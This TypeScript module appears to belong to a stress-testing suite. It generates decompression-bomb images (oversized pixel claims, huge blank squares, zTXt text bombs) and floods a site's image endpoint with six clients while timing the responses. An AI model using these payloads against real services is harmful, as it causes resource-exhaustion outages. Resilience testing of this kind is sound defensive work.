import { crc32, deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { type Attack, count } from "./ground/attack.ts";
import { flood } from "./ground/flood.ts";
import { score } from "./slow-media.ts";

const MEGAPIXEL = 1_000_000;
const CLIENTS = 6;

/** Small files that mean many pixels, or much else, once they are opened. */
async function makePictures(): Promise<Record<string, Uint8Array>> {
  const flat = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: "#204060" }, limitInputPixels: false });
  return {
    "heavy-column.png": png(1, 49 * MEGAPIXEL),
    "heavy-line.png": png(49 * MEGAPIXEL, 1),
    "heavy-claim.png": png(60_000, 60_000),
    "heavy-square.png": await flat(7_000, 7_000).png().toBuffer(),
    "heavy-square.jpg": await flat(7_000, 7_000).jpeg({ progressive: true }).toBuffer(),
    "heavy-square.webp": await flat(7_000, 7_000).webp().toBuffer(),
    "heavy-packed.png": gzipSync(Buffer.alloc(50 * MEGAPIXEL)),
    "heavy-text.png": png(10, 10, textBomb()),
  };
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** A PNG of one bit a pixel, all of it zero; `extra` stands before the pixels, which end early where they would be too many. */
function png(width: number, height: number, extra: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const pixels = Buffer.alloc(Math.min((1 + Math.ceil(width / 8)) * height, 100 * MEGAPIXEL));
  const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    start,
    chunk("IHDR", header),
    extra,
    chunk("IDAT", deflateSync(pixels)),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** Compressed texts of a picture that unpack to 50 MB each. */
function textBomb(): Buffer {
  const text = Buffer.concat([
    Buffer.from("Comment\0\0", "latin1"),
    deflateSync(Buffer.alloc(50 * MEGAPIXEL)),
  ]);
  return Buffer.concat(Array.from({ length: 20 }, () => chunk("zTXt", text)));
}

export const heavyPictures: Attack = {
  name: "heavy-pictures",
  by: "tenant",
  tried: `${CLIENTS} clients have bombs measured: 49 megapixels as a column, a line and a square, 3,600 claimed, packed texts`,
  clients: CLIENTS,
  run: async (site, { key }, tally) => {
    const { receiver, url, seconds } = site;
    const pictures = await makePictures();
    receiver.serve((path) => {
      const body = pictures[path.slice(1)];
      return body ? { headers: { "content-type": "image/png" }, body } : null;
    });
    const names = Object.keys(pictures);
    const slowest = { ms: 0, name: "" };
    const send: Parameters<typeof flood>[0]["send"] = async (_client, n) => {
      const name = names[n % names.length] ?? "";
      const begun = performance.now();
      const status = await score(site, key, name);
      const ms = performance.now() - begun;
      if (ms > slowest.ms) Object.assign(slowest, { ms, name });
      return status;
    };
    await flood({ url, clients: CLIENTS, seconds, send }, tally);
    count(tally, `slowest ${slowest.name} ${(slowest.ms / 1_000).toFixed(1)} s`);
    return null;
  },
};
